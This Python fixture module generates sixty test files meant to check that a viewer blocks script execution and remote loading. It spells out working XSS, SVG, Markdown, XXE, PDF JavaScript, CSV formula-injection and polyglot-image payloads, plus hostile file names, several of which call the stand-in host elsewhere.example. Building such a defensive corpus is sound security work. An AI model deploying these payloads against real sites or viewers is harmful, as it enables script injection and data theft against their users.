"""Sixty files that try to run something, or to load something from elsewhere, where they are shown.

What each does when it succeeds: it opens an alert, sets `window.ran`, or asks for an address elsewhere; a browser of
the tests notices all three. Source: the kinds named in reliability-security 7 (87) and 3 (26).
"""

from __future__ import annotations

import io
import zipfile
import zlib

ELSEWHERE = "https://elsewhere.example/ran"
RUN = "window.ran=1;alert(document.domain)"
_TAG = f"<script>{RUN}</script>"
_IMG = f"<img src=x onerror='{RUN}'><img src='{ELSEWHERE}'>"


def active_files() -> dict[str, bytes]:
    """Return the files by name."""
    found = {**_pages(), **_drawings(), **_texts(), **_documents(), **_polyglots(), **_names()}
    assert len(found) == 60
    return found


def _pages() -> dict[str, bytes]:
    frame = f'<iframe srcdoc="{_TAG}"></iframe><iframe src="javascript:{RUN}"></iframe>'
    whole = f"<!doctype html><title>x</title>{_TAG}{_IMG}"
    texts = {
        "page.html": whole,
        "page.HTM": whole,
        "page.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{_TAG}</body></html>",
        "page.shtml": whole,
        "handlers.html": f"<body onload='{RUN}'><input autofocus onfocus='{RUN}'><details open ontoggle='{RUN}'>",
        "frames.html": frame,
        "refresh.html": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href='{ELSEWHERE}'>",
        "import.html": f"<link rel=stylesheet href='{ELSEWHERE}'><script type=module>import '{ELSEWHERE}'</script>",
        "form.html": f"<form action='{ELSEWHERE}'></form><script>document.forms[0].submit()</script>",
        "object.html": f"<object data='javascript:{RUN}'></object><embed src='{ELSEWHERE}'>",
        "worker.html": f"<script>new Worker(URL.createObjectURL(new Blob(['fetch(\"{ELSEWHERE}\")'])))</script>",
        "page.mht": "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        f"Content-Type: text/html\r\n\r\n{whole}\r\n--b--\r\n",
        "page.hta": whole,
        "page.php": f"<?php echo 1 ?>{whole}",
    }
    found = {name: text.encode() for name, text in texts.items()}
    found["utf16.html"] = whole.encode("utf-16")
    found["utf7.html"] = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    return found


def _drawings() -> dict[str, bytes]:
    head = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    page = f"<body xmlns='http://www.w3.org/1999/xhtml'>{_TAG}</body>"
    moving = f"<animate attributeName='href' values='javascript:{RUN}'/>"
    texts = {
        "script.svg": f"{head}><script>{RUN}</script></svg>",
        "onload.svg": f"{head} onload='{RUN}'/>",
        "foreign.svg": f"{head}><foreignObject>{page}</foreignObject></svg>",
        "use.svg": f"{head}><use xlink:href='{ELSEWHERE}#a'/><image href='{ELSEWHERE}' width='9' height='9'/></svg>",
        "animate.svg": f"{head}><a>{moving}<text y='9'>x</text></a></svg>",
        "style.svg": f"{head}><style>@import '{ELSEWHERE}';</style><rect width='9' height='9'/></svg>",
        "entity.svg": f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{ELSEWHERE}'>]>{head}><text>&x;</text></svg>",
    }
    found = {name: text.encode() for name, text in texts.items()}
    packed = zlib.compressobj(wbits=31)
    found["packed.svgz"] = packed.compress(found["script.svg"]) + packed.flush()
    return found


def _texts() -> dict[str, bytes]:
    texts = {
        "links.md": f"[a](javascript:{RUN}) [b](data:text/html,{_TAG}) [c](vbscript:x) <javascript:{RUN}>",
        "pictures.md": f'![x]({ELSEWHERE}) ![y](x" onerror="{RUN})',
        "inside.md": f"# T\n\n{_TAG}\n\n<a href='javascript:{RUN}'>x</a>\n\n```html\n{_TAG}\n```\n",
        "reference.md": f"[x][1]\n\n[1]: javascript:{RUN} \"'onmouseover='{RUN}\"\n",
        "deep.md": "> " * 4_000 + _TAG,
        "emphasis.markdown": "*" * 5_000 + "_" * 5_000 + _IMG,
        "data.xml": f"<?xml version='1.0'?><?xml-stylesheet href='{ELSEWHERE}' type='text/xsl'?><x>{_TAG}</x>",
        "page.xsl": f"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform'>{_TAG}</x:stylesheet>",
        "feed.rss": f"<rss><channel><description><![CDATA[{_TAG}]]></description></channel></rss>",
        "code.js": RUN,
        "code.mjs": f"import '{ELSEWHERE}'; {RUN}",
        "style.css": f"@import '{ELSEWHERE}'; body{{background:url({ELSEWHERE})}}",
        "data.json": '{"x": "' + _TAG.replace('"', "'") + '"}',
        "table.csv": f"=cmd|' /C calc'!A0,{_TAG}\n",
        "plain.txt": whole_text(),
        "manifest.webmanifest": f'{{"start_url": "{ELSEWHERE}"}}',
        "app.appcache": f"CACHE MANIFEST\n{ELSEWHERE}\n",
        "mail.eml": f"Subject: x\r\nContent-Type: text/html\r\n\r\n{_TAG}{_IMG}",
    }
    return {name: text.encode() for name, text in texts.items()}


def whole_text() -> str:
    """Return what looks like a page and stands in a file that is none."""
    return f"<!doctype html><html><body>{_TAG}{_IMG}</body></html>"


def _documents() -> dict[str, bytes]:
    pdf = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O"
        b"<</S/URI/URI(" + ELSEWHERE.encode() + b")>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return {
        "script.pdf": pdf,
        "not really.pdf": whole_text().encode(),
        "book.epub": _zipped({"mimetype": "application/epub+zip", "OPS/one.xhtml": whole_text()}),
        "letter.docx": _zipped({"word/document.xml": f"<!DOCTYPE x SYSTEM '{ELSEWHERE}'><w>{_TAG}</w>"}),
        "film.swf": b"FWS\x06" + whole_text().encode(),
    }


def _zipped(files: dict[str, str]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return raw.getvalue()


def _polyglots() -> dict[str, bytes]:
    text = whole_text().encode()
    return {
        "gif and script.gif": b"GIF89a=1;" + RUN.encode() + b"//",
        "gif and page.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + text,
        "page named.png": text,
        "drawing named.jpg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='" + RUN.encode() + b"'/>",
        "jpeg with comment.jpg": b"\xff\xd8\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + b"\xff\xd9",
        "webp and page.webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + text,
        "bitmap and script.bmp": b"BM=1;/*" + bytes(20) + b"*/" + RUN.encode(),
        "mark first.html": b"\xef\xbb\xbf" + text,
    }


def _names() -> dict[str, bytes]:
    return {
        "<img src=x onerror=alert(1)>.txt": b"named",
        "\"'><script>alert(1)<&#x2f;script>.md": b"named",
        "javascript:alert(1).html": b"named",
        "{{constructor.constructor('alert(1)')()}}.txt": b"named",
        "\u202egpj.exe.txt": b"named",
    }
